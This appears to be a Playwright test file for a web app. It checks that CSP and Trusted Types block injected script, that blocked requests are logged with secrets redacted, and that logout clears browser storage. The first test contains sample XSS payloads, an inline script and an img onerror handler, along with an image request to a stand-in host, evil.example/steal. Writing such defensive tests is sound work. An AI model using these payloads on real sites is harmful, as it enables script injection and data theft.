import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { becomeClient, expect, type Surroundings, test } from './kantor.ts'

const serverLog = (service: Surroundings) => readFileSync(join(service.kantor.dataDirectory, 'server.log'), 'utf8')

test.describe('a page that somebody got markup into', () => {
  test.use({ expectedProblem: /Content Security Policy|TrustedHTML/ })

  test('runs none of it, and the operator hears of it', async ({ page, service }) => {
    const token = 'a-mailed-token-that-nobody-may-read-in-a-log'
    await page.goto(`/app/set-new-password/${token}`)
    await expect(page.getByLabel('New password')).toBeVisible()
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script')
      let refused = ''
      try {
        script.textContent = 'window.stolen = true'
        document.body.append(script)
        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.stolen = true">')
      } catch (error) {
        refused = String(error)
      }
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/steal?what=everything' }))
      await new Promise((resolve) => setTimeout(resolve))
      return { stolen: 'stolen' in window, refused }
    })
    expect(ran.stolen).toBe(false)
    expect(ran.refused).toMatch(/TrustedScript|TrustedHTML/)

    await expect.poll(() => serverLog(service), { timeout: 30_000 }).toContain('"blocked":"https://evil.example"')
    expect(serverLog(service)).toContain('"page":"/app/set-new-password/***"')
    expect(serverLog(service)).not.toMatch(/a-mailed-token|what=everything/)
  })
})

test.describe('a page in which something breaks', () => {
  test.use({ expectedProblem: /broken on purpose/ })

  test('tells the operator where, without what the client typed', async ({ page, service }) => {
    await page.goto('/app/login')
    await expect(page.getByLabel('Email')).toBeVisible()
    await page.evaluate(() =>
      setTimeout(() => {
        throw new Error('broken on purpose for anna.nowak@example.com')
      }),
    )
    await expect.poll(() => serverLog(service)).toContain('broken on purpose for …')
    expect(serverLog(service)).not.toContain('anna.nowak')
  })
})

test('after the log-out nothing of the client is left in the browser', async ({ page, service }) => {
  await page.goto('/app/forgot-password')
  await page.getByLabel('Email').fill('somebody@example.com')
  await page.getByRole('button', { name: 'Send password reset link' }).click()
  await expect(page.getByText('Check your email')).toBeVisible()
  await becomeClient(page, service)
  await page.getByRole('button', { name: 'Get a quote' }).click()
  await page.getByRole('textbox', { name: 'Message' }).fill('a private message')
  await page.getByRole('button', { name: 'Close' }).first().click()
  const kept = () => page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
  expect(await kept()).toContain('refreshToken')

  await page.goto('/app/profile')
  await page.getByRole('button', { name: 'Logout' }).click()
  await expect(page).toHaveURL('/app/login')
  await expect(page.getByLabel('Email')).toHaveValue('')
  expect(await kept()).toBe('[{},{}]')
  const databases = await page.evaluate(async () => [await indexedDB.databases(), await caches.keys()].flat())
  expect(databases).toEqual([])
})
